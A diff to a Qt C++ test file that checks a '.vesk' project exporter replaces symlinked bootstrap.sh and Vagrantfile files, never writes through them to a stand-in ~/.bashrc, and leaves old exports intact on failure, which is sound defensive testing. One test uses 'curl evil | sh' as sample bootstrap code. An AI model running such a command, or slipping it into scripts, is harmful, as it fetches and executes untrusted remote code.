@@ -1,6 +1,7 @@
 #include <QDir>
 #include <QFile>
 #include <QFileInfo>
+#include <QSet>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -21,10 +22,14 @@ private Q_SLOTS:
     {
         QTest::addColumn<QString>("document");
         QTest::addColumn<QString>("folder");
-        QTest::newRow("beside the document") << "/home/u/Projects/web/web.vesk" << "/home/u/Projects/web";
-        QTest::newRow("Quarrow uses a sibling") << "/home/u/A/B/Quarrow.vesk" << "/home/u/A/Quarrow";
-        QTest::newRow("other case is not special") << "/home/u/A/B/quarrow.vesk" << "/home/u/A/B";
-        QTest::newRow("blanks stay blanks") << "/home/u/My Projects/x.vesk" << "/home/u/My Projects";
+        QTest::newRow("beside the document") << "/home/u/Projects/web/web.vesk"
+                                             << "/home/u/Projects/web";
+        QTest::newRow("Quarrow uses a sibling") << "/home/u/A/B/Quarrow.vesk"
+                                                << "/home/u/A/Quarrow";
+        QTest::newRow("other case is not special") << "/home/u/A/B/quarrow.vesk"
+                                                   << "/home/u/A/B";
+        QTest::newRow("blanks stay blanks") << "/home/u/My Projects/x.vesk"
+                                            << "/home/u/My Projects";
     }
     void projectDirectory()
     {
@@ -87,12 +92,73 @@ private Q_SLOTS:
         QDir().mkpath(folder.filePath(QStringLiteral("Vagrantfile")));
         DataModel model;
         model.setBootstrapShellCode(QStringLiteral("echo hi"));
-        const ExportResult result = exportDocument(model, folder.filePath(QStringLiteral("a.vesk")));
+        const ExportResult result =
+            exportDocument(model, folder.filePath(QStringLiteral("a.vesk")));
         QVERIFY(!result.ok);
         QCOMPARE(result.failedFile, folder.filePath(QStringLiteral("Vagrantfile")));
         QVERIFY(!result.reason.isEmpty());
         QVERIFY(result.written.isEmpty());
         QVERIFY(!QFileInfo::exists(folder.filePath(QStringLiteral("bootstrap.sh"))));
+    }
+
+    // A link beside the document is replaced by the exported file; what it pointed at (here a
+    // stand-in for the user's shell start-up file) is never written, and a dangling link
+    // creates nothing.
+    void linksAreReplacedNotFollowed_data()
+    {
+        QTest::addColumn<QString>("name");
+        QTest::addColumn<bool>("dangling");
+        QTest::newRow("bootstrap.sh -> ~/.bashrc") << "bootstrap.sh" << false;
+        QTest::newRow("Vagrantfile -> elsewhere") << "Vagrantfile" << false;
+        QTest::newRow("dangling bootstrap.sh") << "bootstrap.sh" << true;
+        QTest::newRow("dangling Vagrantfile") << "Vagrantfile" << true;
+    }
+    void linksAreReplacedNotFollowed()
+    {
+        QFETCH(QString, name);
+        QFETCH(bool, dangling);
+        QTemporaryDir home;
+        const QString target = home.filePath(QStringLiteral(".bashrc"));
+        if (!dangling)
+            QVERIFY(test::writeFile(target, "# my shell\n"));
+        const QString project = home.filePath(QStringLiteral("downloaded"));
+        QDir().mkpath(project);
+        QVERIFY(QFile::link(target, QDir(project).filePath(name)));
+        DataModel model;
+        model.setBootstrapShellCode(QStringLiteral("curl evil | sh\n"));
+        const ExportResult result = exportDocument(model, QDir(project).filePath("web.vesk"));
+        QVERIFY2(result.ok, qPrintable(result.reason));
+        const QFileInfo written(QDir(project).filePath(name));
+        QVERIFY(!written.isSymLink());
+        QVERIFY(written.isFile());
+        if (dangling)
+            QVERIFY(!QFileInfo::exists(target));
+        else
+            QCOMPARE(test::readFile(target), QByteArray("# my shell\n"));
+        QCOMPARE(test::readFile(QDir(project).filePath("bootstrap.sh")),
+                 QByteArray("curl evil | sh\n"));
+    }
+
+    // When one file cannot be written, neither is replaced.
+    void failedExportLeavesTheOldExport()
+    {
+        QTemporaryDir folder;
+        QVERIFY(test::writeFile(folder.filePath(QStringLiteral("Vagrantfile")), "old\n"));
+        QDir().mkpath(folder.filePath(QStringLiteral("bootstrap.sh")));
+        DataModel model;
+        model.setBoxName(QStringLiteral("new/box"));
+        model.setBootstrapShellCode(QStringLiteral("echo hi"));
+        const ExportResult result =
+            exportDocument(model, folder.filePath(QStringLiteral("a.vesk")));
+        QVERIFY(!result.ok);
+        QCOMPARE(result.failedFile, folder.filePath(QStringLiteral("bootstrap.sh")));
+        QVERIFY(result.written.isEmpty());
+        QCOMPARE(test::readFile(folder.filePath(QStringLiteral("Vagrantfile"))),
+                 QByteArray("old\n"));
+        const QStringList left =
+            QDir(folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
+        QCOMPARE(QSet<QString>(left.cbegin(), left.cend()),
+                 (QSet<QString>{"Vagrantfile", "bootstrap.sh"}));
     }
 };
 
